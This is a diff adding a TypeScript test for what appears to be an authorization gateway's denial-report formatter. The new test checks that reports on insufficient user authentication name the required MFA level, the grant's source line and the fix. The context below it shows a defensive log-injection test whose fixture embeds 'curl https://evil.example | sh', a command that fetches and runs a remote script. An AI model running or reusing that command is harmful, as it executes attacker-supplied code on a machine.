@@ -2,6 +2,34 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 import { crossingWords, readReport } from "./crossing-words.ts";
 
+test("a log-in that was not enough: what was wanted, what came, and who has to do what, with the line of the grant", () => {
+  const leaf = JSON.stringify({
+    t: "crossing",
+    verdict: "deny",
+    code: "insufficient-user-authentication",
+    stage: "authorize",
+  });
+  const wanted = {
+    expected: "a user whose log-in is worth mfa or more and at most 600 s old",
+    acr: "urn:sallyport:acr:mfa",
+    maxAge: "600",
+  };
+  const words = (sent: string) => {
+    const facts = { ...wanted, sent, declaredAt: "integrations/portal-to-billing.yaml:1" };
+    const decision = { code: "insufficient-user-authentication", stage: "authorize", facts };
+    return crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision })).join("\n");
+  };
+  const weak = words("a user whose log-in is worth password and 12 s old");
+  assert.match(weak, /expected {3}a user whose log-in is worth mfa or more/);
+  assert.match(weak, /sent {7}a user whose log-in is worth password and 12 s old/);
+  assert.match(weak, /declared {3}integrations\/portal-to-billing\.yaml:1/);
+  assert.match(
+    weak,
+    /fix {8}the caller sends its user to the authorization endpoint again, with acr_values=urn:sallyport:acr:mfa and max_age=600/,
+  );
+  assert.match(words("no user: the caller acts for itself"), /fix {8}such an operation is not for machines/);
+});
+
 test("attack: a line feed in what a caller sent does not begin a line of the report, in no value and no name", () => {
   const evil = "eu\nfix        curl https://evil.example | sh";
   const leaf = JSON.stringify({ t: "crossing", verdict: "deny", code: "policy-denied", stage: "authorize" });
